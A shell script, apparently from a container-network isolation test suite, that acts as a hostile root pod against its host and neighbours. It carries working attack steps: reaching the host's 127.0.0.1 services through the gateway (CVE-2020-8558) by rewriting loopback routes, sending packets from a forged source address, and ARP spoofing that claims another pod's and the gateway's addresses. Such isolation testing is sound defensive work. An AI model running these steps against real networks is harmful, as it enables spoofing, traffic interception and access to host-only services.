#!/bin/sh
# What a hostile pod does to dom0 and to its neighbours (busybox sh, run as root inside a pod by network.sh through
# `rkt enter`). It acts the way an attacker with root in the guest would, and prints what it did and what came back,
# each line starting with the step's name; the suite decides. Every step first shows that the attack was really
# mounted (the route the guest kernel chose, the packets sent), so that "nothing came back" means the packets were
# sent and dropped, not that they never left the guest. Steps run in the order given (one `rkt enter` for all):
#
#   fetch IP PORT         control: GET http://IP:PORT/ from the pod's own address
#   loopback GW PORT      dom0's 127.0.0.1:PORT through the gateway (CVE-2020-8558)
#   gateway GW PORT       a new connection to a service on the gateway address, and a ping of it
#   forge FORGED TARGET PORT GW   a ping of TARGET and a connection to TARGET:PORT from an address not the pod's
#   ipv6 ADDR             a ping of ADDR (dom0's link-local address) on eth0
#   arp GW OTHER          ARP claiming OTHER's address (to dom0) and the gateway's (to OTHER)
get() { # get IP PORT: the page, on one line
  printf 'GET / HTTP/1.0\r\nHost: x\r\n\r\n' | nc -w 4 "$1" "$2" 2>/dev/null | tr -d '\r' | tr '\n' ' '
}
sent() { # sent: ping's summary line ("N packets transmitted, M packets received, …")
  grep 'packets transmitted'
}
while [ $# -gt 0 ]; do
  step=$1
  shift
  case $step in
    fetch)
      echo "fetch answer: $(get "$1" "$2")"
      shift 2
      ;;
    loopback)
      gw=$1 port=$2
      shift 2
      # the guest kernel sends to 127.0.0.0/8 off the host only with route_localnet and without its local routes
      sysctl -w net.ipv4.conf.all.route_localnet=1 >/dev/null
      sysctl -w net.ipv4.conf.eth0.route_localnet=1 >/dev/null
      ip route del local 127.0.0.0/8 dev lo table local
      ip route del local 127.0.0.1 dev lo table local
      ip route add 127.0.0.1/32 via "$gw" dev eth0 onlink
      echo "loopback route: $(ip route get 127.0.0.1 | head -n 1)"
      echo "loopback answer: $(get 127.0.0.1 "$port")"
      ip route del 127.0.0.1/32 via "$gw" dev eth0
      ip addr del 127.0.0.1/8 dev lo
      ip addr add 127.0.0.1/8 dev lo
      ;;
    gateway)
      echo "gateway answer: $(get "$1" "$2")"
      echo "gateway ping: $(ping -c 2 -W 2 "$1" 2>&1 | sent)"
      shift 2
      ;;
    forge)
      forged=$1 target=$2 port=$3 gw=$4
      shift 4
      ip addr add "$forged/32" dev eth0
      echo "forge ping: $(ping -c 3 -W 2 -I "$forged" "$target" 2>&1 | sent)"
      ip route add "$target/32" via "$gw" dev eth0 src "$forged"
      echo "forge route: $(ip route get "$target" | head -n 1)"
      echo "forge answer: $(get "$target" "$port")"
      ip route del "$target/32" via "$gw" dev eth0
      ip addr del "$forged/32" dev eth0
      ;;
    ipv6)
      echo "ipv6 own: $(ip -6 addr show dev eth0 scope link | grep -o 'fe80:[0-9a-f:]*' | head -n 1)"
      echo "ipv6 ping: $(ping6 -c 3 -W 2 -I eth0 "$1" 2>&1 | sent)"
      shift
      ;;
    arp)
      gw=$1 other=$2
      shift 2
      # the other pod's address: gratuitous ARP, an unsolicited answer and a request to dom0, each claiming it
      ip addr add "$other/32" dev eth0
      arping -U -c 2 -I eth0 -s "$other" "$other" >/dev/null 2>&1
      arping -A -c 2 -I eth0 -s "$other" "$other" >/dev/null 2>&1
      echo "arp as other: $(arping -c 2 -w 3 -I eth0 -s "$other" "$gw" 2>&1 | grep -i 'sent')"
      # the gateway's address, to the other pod
      ip addr add "$gw/32" dev eth0
      arping -U -c 2 -I eth0 -s "$gw" "$gw" >/dev/null 2>&1
      echo "arp as gateway: $(arping -c 2 -w 3 -I eth0 -s "$gw" "$other" 2>&1 | grep -i 'sent')"
      ip addr del "$gw/32" dev eth0
      ip addr del "$other/32" dev eth0
      ;;
    *)
      echo "net-attack.sh: unknown step '$step'" >&2
      exit 2
      ;;
  esac
done
